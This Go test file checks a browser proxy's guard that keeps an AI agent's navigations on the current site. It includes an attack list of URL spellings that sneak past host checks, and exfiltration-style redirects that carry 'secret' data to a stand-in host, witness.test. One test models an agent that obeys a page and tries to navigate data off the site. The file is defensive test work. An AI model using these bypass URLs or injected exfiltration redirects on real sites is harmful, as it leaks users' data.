package proxy

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/remixproxy/remixproxy/internal/weburl"
)

// navHeaders are the headers Chromium sends with a navigation started in a page of from
// (fetchSite as it computes it); referer "" leaves the Referer out.
func navHeaders(fetchSite, referer string) []string {
	h := []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", fetchSite, "Upgrade-Insecure-Requests", "1"}
	if referer != "" {
		h = append(h, "Referer", referer)
	}
	return h
}

func navRequestFor(t *testing.T, method, rawURL string, hdr ...string) *http.Request {
	t.Helper()
	r, err := http.NewRequest(method, rawURL, nil)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		if hdr[i+1] != "" {
			r.Header.Set(hdr[i], hdr[i+1])
		}
	}
	return r
}

func TestNavExpectPairs(t *testing.T) {
	g := &navGuard{}
	x := g.arm("click", "https://www.shop.test/cart", "https://www.shop.test", []string{"https://www.shop.test/go?x=1"}, nil)
	for _, tt := range []struct {
		name      string
		url       string
		fetchSite string
		referer   string
		want      bool
	}{
		{"a link on the page", "https://www.shop.test/out?to=x", "same-origin", "https://www.shop.test/cart", true},
		{"the page's script sends the tab elsewhere", "https://witness.test/?d=1", "cross-site", "https://www.shop.test/cart", true},
		{"a Referer of the origin only (policy origin)", "https://witness.test/", "cross-site", "https://www.shop.test/", true},
		{"no Referer, same-origin", "https://www.shop.test/out", "same-origin", "", true},
		{"no Referer, same-site", "https://api.shop.test/x", "same-site", "", true},
		{"no Referer, cross-site: unknown initiator", "https://witness.test/", "cross-site", "", true},
		{"no Fetch metadata and no Referer (plain http)", "http://witness.test/", "", "", true},
		{"the expected address", "https://www.shop.test/go?x=1", "same-origin", "https://other.test/", true},
		{"the address bar", "https://witness.test/", "none", "", false},
		{"the address bar, to the site", "https://www.shop.test/out", "none", "", false},
		{"another site's tab", "https://witness.test/", "cross-site", "https://news.test/a", false},
		{"no Referer, same-origin of another site", "https://news.test/b", "same-origin", "", false},
		{"no Referer, same-site of another site", "https://a.news.test/b", "same-site", "", false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := navRequestFor(t, "GET", tt.url, navHeaders(tt.fetchSite, tt.referer)...)
			if tt.fetchSite == "" {
				r.Header.Del("Sec-Fetch-Dest")
				r.Header.Del("Sec-Fetch-Mode")
			}
			if top, _ := navigationKind(r); !top {
				t.Fatal("not read as a navigation")
			}
			g.mu.Lock()
			got := x.pairs(readNavRequest(r))
			g.mu.Unlock()
			if got != tt.want {
				t.Errorf("pairs = %v, want %v", got, tt.want)
			}
		})
	}
}

func TestNavigationKind(t *testing.T) {
	for _, tt := range []struct {
		name       string
		method     string
		hdr        []string
		top, frame bool
	}{
		{"top-level document", "GET", []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate"}, true, false},
		{"a form's POST", "POST", []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate"}, true, false},
		{"an iframe", "GET", []string{"Sec-Fetch-Dest", "iframe", "Sec-Fetch-Mode", "navigate"}, false, true},
		{"a frame", "GET", []string{"Sec-Fetch-Dest", "frame", "Sec-Fetch-Mode", "navigate"}, false, true},
		{"an image", "GET", []string{"Sec-Fetch-Dest", "image", "Sec-Fetch-Mode", "no-cors"}, false, false},
		{"a fetch", "GET", []string{"Sec-Fetch-Dest", "empty", "Sec-Fetch-Mode", "cors"}, false, false},
		{"a document fetched, not navigated", "GET", []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "cors"}, false, false},
		{"plain http navigation", "GET", []string{"Upgrade-Insecure-Requests", "1"}, true, false},
		{"plain http by Accept", "GET", []string{"Accept", "text/html,application/xhtml+xml"}, true, false},
		{"plain http image", "GET", []string{"Accept", "image/avif,image/webp"}, false, false},
		{"a DELETE", "DELETE", []string{"Sec-Fetch-Dest", "document", "Sec-Fetch-Mode", "navigate"}, false, false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			top, frame := navigationKind(navRequestFor(t, tt.method, "https://shop.test/", tt.hdr...))
			if top != tt.top || frame != tt.frame {
				t.Errorf("navigationKind = %v, %v; want %v, %v", top, frame, tt.top, tt.frame)
			}
		})
	}
}

// TestNavHopLeaves: a Location is read against the request as the browser reads it (weburl),
// and it leaves the site exactly when the browser would go to another site — every spelling of
// the attack list included.
func TestNavHopLeaves(t *testing.T) {
	x := (&navGuard{}).arm("navigate", "https://www.shop.co.uk/a", "https://www.shop.co.uk", nil, nil)
	from, _ := weburl.Parse("https://www.shop.co.uk/out?to=x")
	for _, tt := range []struct {
		loc    string
		leaves bool
	}{
		{"/next", false},
		{"https://api.shop.co.uk/v1", false},
		{"http://shop.co.uk/", false},
		{"https://SHOP.CO.UK./x", false},
		{"https://www.shop.co.uk:8443/x", false},
		{"https://www.shop.co.uk:443/x", false},
		{"/a/../%2e%2e/next", false},
		{"https://\uff57\uff57\uff57.shop.co.uk/", false}, // fullwidth letters of the site
		{"https://shop\u3002co\uff0euk/", false},          // other full stops
		{"https://www.shop.co.uk\\@witness.test/", false}, // a backslash ends the host: a path on the site
		{"https:witness.test", false},                     // no "//", same scheme: a path on this origin
		{"https://witness.test/?d=secret", true},
		{"//witness.test/", true},
		{"https:\\\\witness.test/", true},
		{"/\\witness.test/", true},
		{"\\\\witness.test/", true},
		{" \thttps://wit\tness.test/\n", true},
		{"https://www.shop.co.uk@witness.test/", true},
		{"https://user@www.shop.co.uk/", true},
		{"https://witness.test\\@www.shop.co.uk/", true},
		{"https://co.uk/", true},
		{"https://other.co.uk/", true},
		{"http:witness.test", true}, // another scheme: the host witness.test
		{"https:///witness.test", true},
		{"javascript:alert(1)", true},
		{"data:text/html,x", true},
		{"mailto:a@witness.test", true},
		{"https://remix.proxy/manager", true},
		{"https://REMIX.PROXY./manager", true},
		{"https://\uff57itness.test/", true},
		{"https://www.shop.co.uk\u3002witness.test/", true},
		{"https://www.shop.co.uk%2ewitness.test/", true},
		{"https://0x7f.1/", true},
		{"http://2130706433/", true},
		{"https://[::1]/", true},
		{"https://sh op.co.uk/", true}, // does not parse: refused
	} {
		t.Run(tt.loc, func(t *testing.T) {
			m := &navMark{xs: []*navExpect{x}, from: from}
			why, _ := m.checkHop(from, tt.loc, "a redirect")
			if got := why != ""; got != tt.leaves {
				t.Errorf("checkHop(%q) refused = %v (%q), want %v", tt.loc, got, why, tt.leaves)
			}
		})
	}
}

// navSite is a site with an open redirect, a same-site redirect into it, a page that refreshes
// off the site, and a page; it records what it answered.
type navSite struct {
	mu   sync.Mutex
	seen []string
}

func (s *navSite) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	s.mu.Lock()
	s.seen = append(s.seen, r.Method+" "+r.Host+r.URL.RequestURI())
	s.mu.Unlock()
	switch r.URL.Path {
	case "/out":
		http.Redirect(w, r, r.URL.Query().Get("to"), http.StatusFound)
	case "/hop":
		http.Redirect(w, r, "https://www.example.com/out?to="+url.QueryEscape(r.URL.Query().Get("to")), http.StatusMovedPermanently)
	case "/refresh":
		w.Header().Set("Refresh", "0; url=https://witness.test/r")
		htmlHandler(`<!doctype html><title>R</title>`)(w, r)
	case "/post307":
		http.Redirect(w, r, "/account2", http.StatusTemporaryRedirect)
	default:
		htmlHandler(`<!doctype html><title>Shop</title><p>shop</p>`)(w, r)
	}
}

func (s *navSite) requests() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return strings.Join(s.seen, "\n")
}

// TestAgentNavigationGuard: through the real proxy, with an expectation armed as the chat arms
// it before an action: the site's open redirect off the site is replaced by the refusal page, and
// so is a same-site redirect into it, a Refresh header off the site and a first hop off the site
// (answered without going upstream); a redirect within the site goes through. The person's own
// navigation (Sec-Fetch-Site: none) and any navigation once the window is over are left alone.
func TestAgentNavigationGuard(t *testing.T) {
	site := &navSite{}
	cf := newChatFixtureWith(t, `{"turns": []}`, chatOptions{site: site, alsoHosts: []string{"www.example.com", "witness.test"}})
	g := &cf.srv.chats.nav
	var mu sync.Mutex
	var told []string
	arm := func() *navExpect {
		return g.arm("click", "https://example.com/", "https://example.com", nil, func(why string) {
			mu.Lock()
			told = append(told, why)
			mu.Unlock()
		})
	}
	page := "https://example.com/"
	exfil := url.QueryEscape("https://witness.test/?d=secret")

	x := arm()
	resp, body := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", page)...)
	if resp.StatusCode != http.StatusForbidden || resp.Header.Get("Location") != "" || !strings.Contains(string(body), "remixproxy stopped the agent&#39;s navigation") ||
		!strings.Contains(string(body), "would have left example.com") || strings.Contains(string(body), "secret") {
		t.Errorf("open redirect: %d %q\n%s", resp.StatusCode, resp.Header.Get("Location"), body)
	}
	if why := x.refusal(); !strings.Contains(why, "a redirect (302) to https://witness.test/?…") {
		t.Errorf("refusal = %q", why)
	}
	x.settle()

	// A redirect within the site is followed; the hop it leads to is the agent's too.
	x = arm()
	resp, _ = cf.get("https://example.com/hop?to="+exfil, navHeaders("same-origin", page)...)
	if resp.StatusCode != http.StatusMovedPermanently || !strings.HasPrefix(resp.Header.Get("Location"), "https://www.example.com/out?") {
		t.Fatalf("same-site redirect: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	x.settle()
	resp, _ = cf.get(resp.Header.Get("Location"), navHeaders("same-site", page)...)
	if resp.StatusCode != http.StatusForbidden {
		t.Errorf("the hop's own redirect off the site: %d %q", resp.StatusCode, resp.Header.Get("Location"))
	}
	if x.refusal() == "" {
		t.Error("the hop's refusal was not recorded")
	}

	// A Refresh header off the site, and a first hop off the site.
	x = arm()
	if resp, _ := cf.get("https://example.com/refresh", navHeaders("same-origin", page)...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
		t.Errorf("Refresh off the site: %d %q", resp.StatusCode, resp.Header.Get("Refresh"))
	}
	if resp, body := cf.get("https://witness.test/?d=secret", navHeaders("cross-site", page)...); resp.StatusCode != http.StatusForbidden ||
		!strings.Contains(string(body), "would have left the site example.com for https://witness.test/?…") {
		t.Errorf("first hop off the site: %d\n%s", resp.StatusCode, body)
	}
	x.settle()

	// A frame of the page: loading another site is its own (a widget); a redirect off the site
	// of a frame's address on the site is held like the tab's.
	x = arm()
	frameHdr := []string{"Sec-Fetch-Dest", "iframe", "Sec-Fetch-Mode", "navigate", "Sec-Fetch-Site", "same-origin", "Referer", page}
	if resp, _ := cf.get("https://example.com/out?to="+exfil, frameHdr...); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a frame's redirect off the site: %d, want 403", resp.StatusCode)
	}
	frameHdr[5] = "cross-site"
	if resp, body := cf.get("https://witness.test/widget", frameHdr...); resp.StatusCode == http.StatusForbidden {
		t.Errorf("a frame loading another site was refused: %d\n%s", resp.StatusCode, body)
	}
	x.settle()

	// Not the agent's: the address bar, and another site's page.
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("none", "")...); resp.StatusCode != http.StatusFound {
		t.Errorf("the person's own navigation through the open redirect: %d, want 302", resp.StatusCode)
	}
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("cross-site", "https://news.test/")...); resp.StatusCode != http.StatusFound {
		t.Errorf("another site's navigation: %d, want 302", resp.StatusCode)
	}
	// A subresource is never a navigation.
	if resp, _ := cf.get("https://example.com/out?to="+exfil, "Sec-Fetch-Dest", "image", "Sec-Fetch-Mode", "no-cors", "Sec-Fetch-Site", "same-origin", "Referer", page); resp.StatusCode != http.StatusFound {
		t.Errorf("an image through the open redirect: %d, want 302 (not the guard's)", resp.StatusCode)
	}

	// After the window, the page's own navigations are its own.
	g.mu.Lock()
	for _, e := range g.xs {
		e.until = time.Now().Add(-time.Second)
		e.pending = 0
	}
	g.mu.Unlock()
	if resp, _ := cf.get("https://example.com/out?to="+exfil, navHeaders("same-origin", page)...); resp.StatusCode != http.StatusFound {
		t.Errorf("after the window: %d, want 302", resp.StatusCode)
	}
	if n := g.live.Load(); n != 0 {
		t.Errorf("%d expectations live after their windows", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(told) < 3 {
		t.Errorf("the chat was told of %d refusals, want at least 3: %q", len(told), told)
	}
}

// TestChatNavigateStopped: a whole chat. The model, obeying the page, navigates to the site's
// open redirect with data in the address; the page agent (stand-in) goes there as the browser
// would, the proxy refuses the redirect, the page goes, and the tool result and a notice say
// the navigation was stopped.
func TestChatNavigateStopped(t *testing.T) {
	site := &navSite{}
	cf := newChatFixtureWith(t, `{"turns": [
		{"tool_calls": [{"name": "navigate", "arguments": {"url": "/out?to=https%3A%2F%2Fwitness.test%2F%3Fd%3Dsecret"}}]},
		{"text": "should not be reached"}
	]}`, chatOptions{site: site})
	cf.srv.chats.follow.mu.Lock()
	cf.srv.chats.follow.grace = 300 * time.Millisecond
	cf.srv.chats.follow.mu.Unlock()
	var navigated sync.Once
	cf.toolMu.Lock()
	cf.reply = func(tool string, args json.RawMessage) any {
		if tool != "navigate" {
			return nil
		}
		var a struct{ URL string }
		json.Unmarshal(args, &a)
		navigated.Do(func() {
			go func() {
				time.Sleep(30 * time.Millisecond) // the page agent answers first, then assigns
				req, _ := http.NewRequest("GET", a.URL, nil)
				for h := navHeaders("same-origin", "https://example.com/"); len(h) > 1; h = h[2:] {
					req.Header.Set(h[0], h[1])
				}
				if resp, err := cf.client.Do(req); err == nil {
					resp.Body.Close()
					if resp.StatusCode == http.StatusForbidden {
						cf.page.Close(websocket.StatusGoingAway, "the tab shows the refusal page")
					}
				}
			}()
		})
		return map[string]any{"navigating": "/out?…", "sameDocument": false, "mayLeave": true}
	}
	cf.toolMu.Unlock()
	cf.actMode(t)
	cf.say(t, map[string]string{"type": "send", "text": "go on"})
	r := cf.waitItem(t, "navigate", toolDone("navigate"))
	if r["status"] != "error" || !strings.Contains(resultOf(r), "navigate: stopped by the proxy: the site answered https://example.com/out?… with a redirect (302) to https://witness.test/?…, which would have left the site example.com") {
		t.Errorf("navigate = %v", r["result"])
	}
	cf.waitIdle(t)
	if !strings.Contains(cf.raw.String(), "remixproxy stopped the agent's navigation: the site answered") {
		t.Error("no notice says the navigation was stopped")
	}
	if n := len(cf.model.Requests()); n != 1 {
		t.Errorf("%d model requests, want 1", n)
	}
	if !strings.Contains(cf.raw.String(), "the proxy stopped the agent's navigation") {
		t.Error("the turn's stop does not say the proxy stopped the navigation")
	}
}

// TestNavExpectBounds: expectations expire, and arming past the bound drops the oldest rather
// than leave an action unguarded.
func TestNavExpectBounds(t *testing.T) {
	now := time.Date(2026, 1, 1, 12, 0, 0, 0, time.UTC)
	g := &navGuard{now: func() time.Time { return now }}
	first := g.arm("click", "https://a.test/", "https://a.test", nil, nil)
	for i := 0; i < maxNavExpects+5; i++ {
		g.arm("click", "https://a.test/", "https://a.test", nil, nil)
	}
	g.mu.Lock()
	_, kept := g.xs[first.id]
	n := len(g.xs)
	g.mu.Unlock()
	if kept || n != maxNavExpects {
		t.Errorf("kept the oldest %v, %d live; want false, %d", kept, n, maxNavExpects)
	}
	g.mu.Lock()
	for _, x := range g.xs {
		x.running = false
		x.until = now.Add(navAfter)
	}
	g.mu.Unlock()
	now = now.Add(navAfter + time.Millisecond)
	g.arm("click", "https://a.test/", "https://a.test", nil, nil)
	if n := g.live.Load(); n != 1 {
		t.Errorf("%d live after the windows ended, want 1", n)
	}
	// An action that never answers is bounded too.
	now = now.Add(navMaxRunning)
	g.mu.Lock()
	g.pruneLocked(now)
	g.mu.Unlock()
	if n := g.live.Load(); n != 0 {
		t.Errorf("%d live after navMaxRunning, want 0", n)
	}
	var nilX *navExpect
	nilX.settle()
	nilX.expect("https://a.test/")
	if out, err := nilX.finish(context.Background(), "click", true, json.RawMessage(`{}`), nil); err != nil || string(out) != "{}" {
		t.Errorf("nil finish = %s, %v", out, err)
	}
}

// TestNavRuleWriter: a remixlet rule's redirect of the agent's navigation (netrules.go answers it
// itself) is checked like the site's: off the site it becomes the refusal page, on it it passes.
func TestNavRuleWriter(t *testing.T) {
	for _, tt := range []struct {
		name, loc string
		status    int
	}{
		{"off the site", "https://witness.test/?d=1", http.StatusForbidden},
		{"on the site", "https://www.shop.test/b", http.StatusTemporaryRedirect},
	} {
		t.Run(tt.name, func(t *testing.T) {
			x := (&navGuard{}).arm("click", "https://shop.test/", "https://shop.test", nil, nil)
			from, _ := weburl.Parse("https://shop.test/a")
			rec := httptest.NewRecorder()
			w := &navRuleWriter{ResponseWriter: rec, mark: &navMark{xs: []*navExpect{x}}, from: from}
			w.Header().Set("Location", tt.loc)
			w.Header().Set("X-Remixproxy", "redirected")
			w.WriteHeader(http.StatusTemporaryRedirect)
			w.Write([]byte("rule body"))
			if rec.Code != tt.status {
				t.Fatalf("status = %d, want %d", rec.Code, tt.status)
			}
			refused := tt.status == http.StatusForbidden
			if got := rec.Header().Get("Location") != ""; got == refused {
				t.Errorf("Location kept = %v", got)
			}
			if body := rec.Body.String(); refused != strings.Contains(body, "remixlet&#39;s redirect rule") || refused == strings.Contains(body, "rule body") {
				t.Errorf("body = %q", body)
			}
			if got := x.refusal() != ""; got != refused {
				t.Errorf("refusal recorded = %v, want %v", got, refused)
			}
		})
	}
}

// leaseClock is a navGuard clock a test moves on.
type leaseClock struct{ off atomic.Int64 }

func (c *leaseClock) now() time.Time       { return time.Now().Add(time.Duration(c.off.Load())) }
func (c *leaseClock) skip(d time.Duration) { c.off.Add(int64(d)) }

// TestNavDocLease: through the real proxy. The agent's navigate loads a page of the site; once
// the action's window is over, that document's own navigations off the site (a meta refresh, a
// timer's location assignment: no user activation, with or without a Referer) are still held,
// and so are those of a page of the site it went on to by itself, and a Refresh header there.
// The person's own click (Sec-Fetch-User: ?1) goes where it goes — unless the person has just
// typed in the panel, whose activation the page shares. When the tab leaves the document (its
// page session goes), the lease ends; a document whose page agent never connects keeps it for
// navDocLoading.
func TestNavDocLease(t *testing.T) {
	site := &navSite{}
	cf := newChatFixtureWith(t, `{"turns": []}`, chatOptions{site: site, alsoHosts: []string{"www.example.com", "witness.test"}})
	g := &cf.srv.chats.nav
	clk := &leaseClock{}
	g.mu.Lock()
	g.now = clk.now
	g.mu.Unlock()
	var mu sync.Mutex
	var told []string
	owner := new(int)
	page := "https://example.com/"
	navigate := func(to string) *navExpect {
		x := g.armAs(navOwner{owner: owner}, "navigate", page, "https://example.com", []string{to}, func(why string) {
			mu.Lock()
			told = append(told, why)
			mu.Unlock()
		})
		if resp, _ := cf.get(to, navHeaders("same-origin", page)...); resp.StatusCode != http.StatusOK {
			t.Fatalf("the agent's navigate to %s: %d", to, resp.StatusCode)
		}
		x.settle()
		clk.skip(navAfter + time.Second) // the action's own window is over
		return x
	}
	var alive1, alive2, alive3 atomic.Bool
	leaving := "https://example.com/leaving?to=x"
	navigate(leaving)
	alive1.Store(true)
	g.docOpened("s1", leaving, alive1.Load)

	// witness.test is dialed but has no certificate here: a navigation the guard lets go is
	// answered by the proxy's certificate error page (502), one it holds by its refusal (403).
	const passed = http.StatusBadGateway
	user := func(h []string) []string { return append(h, "Sec-Fetch-User", "?1") }
	for _, tt := range []struct {
		name string
		hdr  []string
		want int
	}{
		{"meta refresh with data in the address", navHeaders("cross-site", page), http.StatusForbidden},
		{"a timer's location, no-referrer policy", navHeaders("cross-site", ""), http.StatusForbidden},
		{"plain http: no Fetch metadata", []string{"Upgrade-Insecure-Requests", "1", "Referer", page}, http.StatusForbidden},
		{"the person's own click", user(navHeaders("cross-site", page)), passed},
		{"the address bar", navHeaders("none", ""), passed},
		{"another site's tab", navHeaders("cross-site", "https://news.test/"), passed},
	} {
		t.Run(tt.name, func(t *testing.T) {
			resp, body := cf.get("https://witness.test/meta?d=4711", tt.hdr...)
			if resp.StatusCode != tt.want && (tt.want != passed || resp.StatusCode == http.StatusForbidden) {
				t.Fatalf("status = %d, want %d\n%s", resp.StatusCode, tt.want, body)
			}
			if tt.want == http.StatusForbidden && (!strings.Contains(string(body), "would have left the site example.com for https://witness.test/meta?…") || strings.Contains(string(body), "4711")) {
				t.Errorf("refusal page:\n%s", body)
			}
		})
	}
	if why := g.stopFor(owner); !strings.Contains(why, "would have left the site example.com") {
		t.Errorf("stopFor = %q", why)
	}

	// The person typed in the panel a moment ago: the page has their activation from it.
	g.panelActive()
	if resp, _ := cf.get("https://witness.test/typed", user(navHeaders("cross-site", page))...); resp.StatusCode != http.StatusForbidden {
		t.Errorf("a navigation with the panel's activation: %d, want 403", resp.StatusCode)
	}
	clk.skip(panelTaint)
	if resp, _ := cf.get("https://witness.test/clicked", user(navHeaders("cross-site", page))...); resp.StatusCode != passed {
		t.Errorf("the person's click after the panel's activation ran out: %d, want 502 (let go)", resp.StatusCode)
	}

	// The tab left the document (the person's own navigation): the lease ends.
	alive1.Store(false)
	if resp, _ := cf.get("https://witness.test/later", navHeaders("cross-site", page)...); resp.StatusCode != passed {
		t.Errorf("after the agent's document went: %d, want 502 (let go)", resp.StatusCode)
	}
	if n := g.live.Load(); n != 0 {
		t.Errorf("%d expectations live after the document went, want 0", n)
	}

	// A chain: the document goes on to a page of the site by itself; that page is held too,
	// and so is its Refresh header.
	navigate(leaving)
	alive2.Store(true)
	g.docOpened("s2", leaving, alive2.Load)
	if resp, _ := cf.get("https://example.com/next", navHeaders("same-origin", leaving)...); resp.StatusCode != http.StatusOK {
		t.Fatalf("the document's own navigation within the site: %d", resp.StatusCode)
	}
	alive2.Store(false)
	alive3.Store(true)
	g.docOpened("s3", "https://example.com/next", alive3.Load)
	if resp, _ := cf.get("https://witness.test/chain", navHeaders("cross-site", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden {
		t.Errorf("the next page's forward off the site: %d, want 403", resp.StatusCode)
	}
	if resp, _ := cf.get("https://example.com/refresh", navHeaders("same-origin", "https://example.com/next")...); resp.StatusCode != http.StatusForbidden || resp.Header.Get("Refresh") != "" {
		t.Errorf("a Refresh header off the site: %d %q", resp.StatusCode, resp.Header.Get("Refresh"))
	}
	alive3.Store(false)

	// A document whose page agent never connects keeps the lease for navDocLoading.
	navigate("https://example.com/plain")
	if resp, _ := cf.get("https://witness.test/unconnected", navHeaders("cross-site", page)...); resp.StatusCode != http.StatusForbidden {
		t.Errorf("an unconnected document's forward: %d, want 403", resp.StatusCode)
	}
	clk.skip(navDocLoading)
	if resp, _ := cf.get("https://witness.test/unconnected2", navHeaders("cross-site", page)...); resp.StatusCode != passed {
		t.Errorf("after navDocLoading: %d, want 502 (let go)", resp.StatusCode)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(told) < 3 {
		t.Errorf("the chat was told of %d refusals, want at least 3: %q", len(told), told)
	}
}
